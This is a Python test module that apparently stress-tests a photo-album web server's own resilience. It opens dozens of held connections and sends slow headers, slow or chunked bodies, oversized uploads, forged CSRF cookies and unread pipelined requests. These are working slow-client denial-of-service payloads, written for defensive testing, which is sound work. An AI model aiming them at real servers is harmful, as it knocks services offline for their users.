"""Clients that try to occupy a server: many connections at once, held for as long as the test wants."""

import socket
import ssl
import threading
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

CLIENT_COUNT = 40
"""Connections per attack. The servers under test have four threads for uploads."""
HUGE_SIZE = 100_000_000


@dataclass(frozen=True)
class Target:
    """A server, by its public URL. `cookies`, `token` and `album` belong to the user that attacks it."""

    url: str
    certificate: str | bool = True
    cookies: str = ""
    token: str = ""
    album: int = 1
    static: str = "/static/"

    def connect(self, receive_buffer: int = 0) -> socket.socket:
        address = urlsplit(self.url)
        connection = socket.socket()
        connection.settimeout(60)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.connect((address.hostname, address.port))
        if address.scheme == "https":
            context = ssl.create_default_context(cafile=str(self.certificate))
            return context.wrap_socket(connection, server_hostname=address.hostname)
        return connection

    def request(self, method: str, path: str, headers: Mapping[str, str] | None = None, body: bytes = b"") -> bytes:
        all_headers = {"Host": urlsplit(self.url).netloc} | dict(headers or {})
        lines = "".join(f"{name}: {value}\r\n" for name, value in all_headers.items())
        return f"{method} {path} HTTP/1.1\r\n{lines}\r\n".encode() + body

    def signed_in(self, **headers: str) -> dict[str, str]:
        session_headers = {
            "Cookie": self.cookies,
            "X-CSRFToken": self.token,
            "Origin": self.url,
            "Tus-Resumable": "1.0.0",
        }
        return session_headers | {name.replace("_", "-"): value for name, value in headers.items()}


@dataclass(frozen=True)
class Attack:
    """Each of `count` clients sends `first`, then `drip` repeatedly. No client reads any response."""

    first: bytes = b""
    drip: bytes = b""
    count: int = CLIENT_COUNT
    receive_buffer: int = field(default=0, kw_only=True)


FORM = "application/x-www-form-urlencoded"
FORGED_HEADERS = {"Cookie": f"csrftoken={'a' * 32}; __Host-csrftoken={'a' * 32}", "Content-Type": FORM}
"""A CSRF cookie that looks right, without a session."""


def slow_sign_in(target: Target) -> Attack:
    """A slow body for the sign-in form, which the server reads from any client with a plausible CSRF cookie."""
    body = b"csrfmiddlewaretoken=" + b"a" * 32 + b"&username="
    return Attack(target.request("POST", "/accounts/login/", FORGED_HEADERS | {"Content-Length": "9000"}, body), b"x")


def slow_chunks_to_sign_in(target: Target) -> Attack:
    headers = FORGED_HEADERS | {"Transfer-Encoding": "chunked"}
    return Attack(target.request("POST", "/accounts/login/", headers, b"5\r\nuser=\r\n"), b"1\r\nx\r\n")


def large_sign_in(target: Target) -> Attack:
    headers = FORGED_HEADERS | {"Content-Length": str(HUGE_SIZE)}
    return Attack(target.request("POST", "/admin/login/", headers, b"username=" + b"x" * 100_000), b"x" * 1000)


def file_to_sign_in(target: Target) -> Attack:
    headers = {
        "Cookie": FORGED_HEADERS["Cookie"],
        "Content-Type": "multipart/form-data; boundary=b",
        "Content-Length": str(HUGE_SIZE),
    }
    part = b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n'
    return Attack(target.request("POST", "/accounts/login/", headers, part), b"x" * 1000)


def slow_headers(target: Target) -> Attack:
    return Attack(target.request("GET", "/albums/").removesuffix(b"\r\n") + b"X-Slow: ", b"x")


def idle_connections(target: Target) -> Attack:
    return Attack(count=3 * CLIENT_COUNT)


def slow_body_without_session(target: Target) -> Attack:
    """A slow form without a session, for a page that requires one."""
    headers = {"Content-Type": FORM, "Content-Length": str(900_000)}
    return Attack(target.request("POST", "/albums/new/", headers, b"title="), b"x")


def slow_form_with_session(target: Target) -> Attack:
    headers = target.signed_in(Content_Type=FORM, Content_Length="900000")
    return Attack(target.request("POST", "/albums/new/", headers, b"title="), b"x")


def slow_manifest_with_session(target: Target) -> Attack:
    headers = target.signed_in(Content_Type="application/json", Content_Length=str(3 << 20))
    return Attack(target.request("POST", f"/albums/{target.album}/uploads/manifest/", headers, b"["), b" ")


def incomplete_manifests_without_session(target: Target) -> Attack:
    """Manifests without a session that lack their last byte: together larger than the memory for anonymous requests."""
    headers = {"Content-Type": "application/json", "Content-Length": str(3 << 20)}
    body = b" " * ((3 << 20) - 1)
    return Attack(target.request("POST", f"/albums/{target.album}/uploads/manifest/", headers, body))


def slow_uploads_without_session(target: Target) -> Attack:
    path = "/uploads/0d9ff5b9-3f0f-4c0b-8a55-a05c0b3b1c2d/"
    headers = {
        "Tus-Resumable": "1.0.0",
        "Upload-Offset": "0",
        "Content-Type": "application/offset+octet-stream",
        "Content-Length": str(HUGE_SIZE),
    }
    return Attack(target.request("PATCH", path, headers), b"x")


def slow_file_forms_without_session(target: Target) -> Attack:
    headers = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(HUGE_SIZE)}
    return Attack(target.request("POST", f"/albums/{target.album}/uploads/", headers, b"--b\r\n"), b"x")


def unread_files(target: Target) -> Attack:
    return Attack(target.request("GET", target.static) * 20, receive_buffer=2048)


def unread_pages(target: Target) -> Attack:
    return Attack(target.request("GET", "/accounts/login/") * 200, count=6, receive_buffer=2048)


def slow_health_request(target: Target) -> Attack:
    return Attack(target.request("GET", "/healthz").removesuffix(b"\r\n") + b"X-Slow: ", b"x")


def health_request_with_a_body(target: Target) -> Attack:
    return Attack(target.request("GET", "/healthz", {"Content-Length": "1000"}), b"x")


def pipelined_health_requests(target: Target) -> Attack:
    return Attack(target.request("GET", "/healthz") * 100, receive_buffer=2048)


KINDS = (
    slow_sign_in,
    slow_chunks_to_sign_in,
    large_sign_in,
    file_to_sign_in,
    slow_headers,
    idle_connections,
    slow_body_without_session,
    slow_form_with_session,
    slow_manifest_with_session,
    incomplete_manifests_without_session,
    slow_uploads_without_session,
    slow_file_forms_without_session,
    unread_files,
    unread_pages,
    slow_health_request,
    health_request_with_a_body,
    pipelined_health_requests,
)


@contextmanager
def under(target: Target, attack: Attack) -> Iterator[list[socket.socket]]:
    """Start the attack, yield its connections, and end the attack with the context."""
    with ExitStack() as stack:
        connections = [stack.enter_context(target.connect(attack.receive_buffer)) for _ in range(attack.count)]
        for connection in connections:
            connection.settimeout(1)
            with suppress(OSError):  # the server refused it before everything was sent
                connection.sendall(attack.first)
        with _dripping(connections, attack.drip):
            yield connections


@contextmanager
def _dripping(connections: list[socket.socket], drip: bytes) -> Iterator[None]:
    is_over = threading.Event()

    def run() -> None:
        while drip and not is_over.wait(0.2):
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(drip)
                if is_over.is_set():
                    return

    thread = threading.Thread(target=run)
    thread.start()
    try:
        yield
    finally:
        is_over.set()
        thread.join(120)
